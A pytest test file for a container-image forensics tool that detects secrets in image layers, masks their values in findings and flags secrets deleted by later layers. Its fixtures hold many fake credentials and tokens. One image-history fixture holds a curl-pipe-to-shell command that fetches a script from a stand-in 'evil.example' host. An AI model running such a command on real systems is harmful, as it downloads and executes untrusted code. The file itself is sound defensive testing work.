"""Secrets in files by what they hold; what they are called alone is little. Values never appear anywhere."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from analyze_cases import F, layer, make_case, paths, rules

from forensics.analyze import analyze, build_analysis
from forensics.model import Severity
from forensics.risk import name_secrets

KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU\n-----END OPENSSH PRIVATE KEY-----\n"
HELD = {
    "aws": ("[default]\naws_access_key_id = AKIAIOSFODNN7REALKEY\n", "AWS access key"),
    "gcp": ('{"type": "service_account", "private_key": "' + KEY.replace("\n", "\\n") + '"}', "private key"),
    "azure": ("DefaultEndpointsProtocol=https;AccountName=x;AccountKey=" + "Ab1/" * 21 + "Ab==", "Azure storage key"),
    "github": ("url = https://ghp_" + "a1" * 18 + "@github.com/x\n", "GitHub token"),
    "gitlab": ("glpat-" + "a1B2c3D4e5F6g7H8i9J0", "GitLab token"),
    "slack": ("xoxb-" + "1234567890-abcdefghijkl", "Slack token"),
    "webhook": ("https://hooks.slack.com/services/T0/B0/" + "a" * 24, "Slack or Discord webhook"),
    "npm": ("//registry.example.org/:_authToken=npm_" + "a1" * 18, "npm token"),
    "pypi": ("password = pypi-AgE" + "IcHlwaS5vcmc" * 6, "PyPI token"),
    "key": (KEY, "private key"),
    "jwt": ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcdefghijkl", "JSON web token"),
    "netrc": ("machine example.org\nlogin me\npassword hunter2hunter2\n", "password for a machine"),
    "docker": ('{"auths": {"reg.example": {"auth": "dXNlcjpwYXNzd29yZA=="}}}', "registry password"),
    "kube": ("users:\n- user:\n    client-key-data: " + "LS0tLS1CRUdJ" * 8 + "\n", "cluster key"),
    "url": ("DATABASE_URL=postgres://app:s3cr3tvalue@db/app\n", "password in an address"),
    "dotnet": ('"Default": "Server=db;User Id=sa;Password=Sup3rS3cret!"', "value of Password"),
}
NOT_HELD = [
    "password = os.environ['PASSWORD']\n",
    "PASSWORD=\nTOKEN=<your token>\nAPI_KEY=changeme\nSECRET=${SECRET}\n",
    "def check(password: str, token: str) -> bool:\n    return password == token\n",
    "auth required pam_unix.so\npassword requisite pam_deny.so\n",
    "ALLOW_EMPTY_PASSWORD=yes\nTOKEN_TTL=3600\nSECRET_FILE=/run/secrets/x\n",
    "http://user:$PASSWORD@host/ https://example.org/a:b@c\n",
    "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n-----BEGIN PUBLIC KEY-----\nMIIB\n",
    "max_password_length = 64\nkey = value\n",
]


@pytest.mark.parametrize("name", HELD)
def test_each_kind_is_named(name: str) -> None:
    text, kind = HELD[name]
    assert kind in name_secrets(text)


@pytest.mark.parametrize("text", NOT_HELD)
def test_what_holds_none(text: str) -> None:
    assert name_secrets(text) == ()


def test_no_hostile_text_takes_long() -> None:
    for text in (
        "password" * 40_000,
        "eyJ" + "A" * 200_000,
        "a:" * 100_000,
        "-----BEGIN PRIVATE KEY-----" + "A" * 300_000,
    ):
        assert isinstance(name_secrets(text), tuple)


def test_the_finding_says_what_to_rotate_and_shows_no_value(tmp_path: Path) -> None:
    files: dict[str, Any] = {f"srv/app/{name}.env": text for name, (text, _) in HELD.items()}
    with make_case(tmp_path / "case", [layer({"a": "1"}), layer(files, later=60)]) as case:
        found = rules(analyze(case).findings)["secret.file-added"]
        stored = b"".join(path.read_bytes() for path in sorted((case.root / "analysis").iterdir()))
    assert found.severity is Severity.MEDIUM
    assert "AWS access key" in found.next
    assert found.next.startswith("Rotate: ")
    for value in (
        b"AKIAIOSFODNN7REALKEY",
        b"hunter2hunter2",
        b"s3cr3tvalue",
        b"Sup3rS3cret",
        b"b3BlbnNzaC1r",
        b"a1B2c3D4e5",
    ):
        assert value not in stored


def test_built_into_the_image_counts_too_and_a_servers_own_key_little(tmp_path: Path) -> None:
    files = {"app/.env": "DB_PASSWORD=correct-horse-battery\n", "etc/ssh/ssh_host_ed25519_key": F(KEY.encode(), 0o600)}
    with make_case(tmp_path / "case", [layer({"a": "1"}), layer(files)], kind="file") as case:
        found = [f for f in build_analysis(case, yara=False).findings if f.rule == "secret.file-added"]
    assert {f.severity: paths(f) for f in found} == {
        Severity.MEDIUM: {b"app/.env"},
        Severity.LOW: {b"etc/ssh/ssh_host_ed25519_key"},
    }


def test_what_distributions_and_libraries_bring_is_left_alone(tmp_path: Path) -> None:
    places = ("usr/share/doc/x/key.pem", "usr/lib/python3/dist-packages/t/test.pem", "app/node_modules/x/test/a.key")
    files = dict.fromkeys((*places, "run/secrets/key"), KEY)
    with make_case(tmp_path / "case", [layer({"a": "1"}), layer(files, later=60)]) as case:
        assert "secret.file-added" not in rules(build_analysis(case, yara=False).findings)


def test_history_lines_are_masked_in_findings(tmp_path: Path) -> None:
    history = ["ADD file:base", "RUN curl -fsSL https://user:hunter2hunter@evil.example/x.sh | sh", "top"]
    with make_case(
        tmp_path / "case", [layer({"a": "1"}), layer({"b": "1"}), layer({"c": "1"})], history=history
    ) as case:
        analysis = build_analysis(case, yara=False)
    assert any(finding.rule.startswith("image.history") for finding in analysis.findings)
    assert "hunter2hunter" not in json.dumps([finding.matched for finding in analysis.findings])


def test_deleted_by_a_later_layer_it_is_still_there(tmp_path: Path) -> None:
    secret, removed = {"opt/deploy.txt": KEY, "opt/notes.txt": "nothing"}, ("opt/deploy.txt", "opt/notes.txt")
    with make_case(tmp_path / "case", [layer({"a": "1"}), layer(secret), layer({}, removed)], kind="file") as case:
        found = rules(build_analysis(case, yara=False).findings)["layer.secret-deleted-but-present"]
    assert paths(found) == {b"opt/deploy.txt"}
